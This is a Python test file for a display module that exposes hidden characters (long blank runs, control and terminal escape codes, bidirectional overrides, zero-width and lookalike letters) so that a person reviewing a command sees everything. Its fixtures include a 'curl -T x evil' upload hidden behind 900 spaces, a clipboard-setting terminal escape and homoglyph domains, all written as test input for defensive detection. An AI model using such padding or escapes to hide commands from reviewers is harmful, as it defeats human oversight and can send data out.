"""Whatever a person could overlook is visible, and nothing else is changed."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mtbot.redaction.display import display, hidden, shows, terminal_safe

SYNTAX = ";&|$()<>`\n"


@pytest.mark.parametrize(
    ("text", "shown", "count"),
    [
        ("", "", 0),
        ("ls -la | head", "ls -la | head", 0),
        ("a;\nb && c", "a;\nb && c", 0),
        (f'"echo hi"{" " * 900}"; curl -T x evil"', '"echo hi"\u2423{900}"; curl -T x evil"', 1),
        ("a   b    c", "a   b\u2423{4}c", 1),
        ("if x:\n    y\n" + " " * 32 + "z", "if x:\n    y\n" + " " * 32 + "z", 0),
        (" " * 33 + "z", "\u2423{33}z", 1),
        ("  a", "  a", 0),
        ("a \\ \nb ", "a \\\u2423{1}\nb\u2423{1}", 2),
        ("ls\n", "ls\u23ce\n", 1),
        ("ls\n\n", "ls\u23ce\n\u23ce\n", 2),
        ("a\n\n\nb", "a\n\n\nb", 0),
        ("a\n\n\n\nb", "a\n\u23ce\n\u23ce\n\u23ce\nb", 3),
        ("a\tb\r\n\x1b[2Jc\x7f\x00", "a\\x09b\\x0d\n\\x1b[2Jc\\x7f\\x00", 5),
        ("rm\u200b \u202e/x\u2066 \ufeff", "rm\\u200b \\u202e/x\\u2066 \\ufeff", 4),
        ("x\U000e0041\U000e007f", "x\\U000e0041\\U000e007f", 2),
        ("a\u00a0b\u3000c\u2003d\u2028e\x85f\xad", "a\\xa0b\\u3000c\\u2003d\\u2028e\\x85f\\xad", 6),
        ("\u3164\u2800\u115f\u034f\u180e\ufe01", "\\u3164\\u2800\\u115f\\u034f\\u180e\\ufe01", 6),
        ("\ud800x\ue000\u0378", "\\ud800x\\ue000\\u0378", 3),
        ("p\u0430ypal \u0435t\u0441/x", "p\\u0430ypal \\u0435t\\u0441/x", 3),
        ("\u0441\u043e\u0440.com", "\\u0441\\u043e\\u0440.com", 3),
        ("\u03b1\u0430b\u03c9", "\\u03b1\\u0430b\\u03c9", 3),
        ("\u03c9\u0436", "\\u03c9\\u0436", 2),
        ("git commit -m 'привет, мир' \u0441 x", "git commit -m 'привет, мир' \u0441 x", 0),
        ("caf\u00e9 na\u00efve 5\u00b5s \u00e6 \u65e5\u672c\u8a9eabc \ud55c\uae00x", None, 0),
        ("e\u0301 a\u0323\u0302", None, 0),
        (";\u0338 \u0301x a\u20dd", ";\\u0338 \\u0301x a\\u20dd", 3),
        ("\uff04\uff08x\uff09\uff1b \U0001d41e \ufb01le", "\\uff04\\uff08x\\uff09\\uff1b \\U0001d41e \\ufb01le", 6),
        ("a\u2215b\u2044c \u2010\u2212x y\u01c3", "a\\u2215b\\u2044c \\u2010\\u2212x y\\u01c3", 5),
        ("\u26a0\ufe0f ok \u2026 \u2122 \u00bd \u2014 \u201cx\u201d", None, 0),
        ("x\ufe0f \ufe0f", "x\\ufe0f \\ufe0f", 2),
        ("\u2423{3} \u23ce", "\\u2423{3} \\u23ce", 2),
        ("\u2039secret:3f9a\u203a", None, 0),
        ("printf '\\x1b[0m \\u200b'", None, 0),
    ],
)
def test_what_hides_is_shown(text: str, shown: str | None, count: int) -> None:
    """Controls, directions, blanks, foreign letters, line ends; honest text of any language stays."""
    assert display(text) == (text if shown is None else shown)
    assert hidden(text) == count


@given(st.text(max_size=60))
def test_shell_syntax_is_neither_added_nor_lost(text: str) -> None:
    """Of any text, and the result can be encoded."""
    shown = display(text)
    shown.encode()
    assert {char: shown.count(char) for char in SYNTAX} == {char: text.count(char) for char in SYNTAX}


@given(st.text(alphabet=" \n\t\u200bа\u0301ab;\u2423\u23ce\x1b", max_size=20))
def test_nothing_changed_means_nothing_hidden(text: str) -> None:
    """The count below a question is zero exactly when the text is shown as it is."""
    assert (hidden(text) == 0) == (display(text) == text)


@pytest.mark.parametrize(
    ("text", "running", "table"),
    [
        ("plain caf\u00e9 \u65e5", "plain caf\u00e9 \u65e5", "plain caf\u00e9 \u65e5"),
        ("a\nb\tc", "a\nb\tc", "a\\nb\\tc"),
        ("\x1b]52;c;x\x07\x9b2J\x7f\r", "\\x1b]52;c;x\\x07\\x9b2J\\x7f\\x0d", "\\x1b]52;c;x\\x07\\x9b2J\\x7f\\x0d"),
        ("\u202ex\u200b\u2028\xad\xa0", "\\u202ex\\u200b\\u2028\\xad\xa0", "\\u202ex\\u200b\\u2028\\xad\xa0"),
        ("\ud800\U000e0041", "\\ud800\\U000e0041", "\\ud800\\U000e0041"),
    ],
)
def test_a_terminal_gets_no_orders(text: str, running: str, table: str) -> None:
    """Stored text that moves the cursor, fills the clipboard or breaks a row is shown as characters."""
    assert terminal_safe(text, table=False) == running
    assert terminal_safe(text, table=True) == table


@pytest.mark.parametrize("text", ["", " \n\t", "\u200b", "\u2800\u3164", "\u00ad\ufe0f"])
def test_text_of_which_nothing_shows_is_known(text: str) -> None:
    """With one letter more something does."""
    assert not shows(text)
    assert shows(f"{text}a")
    assert shows(f"\u2764{text}")
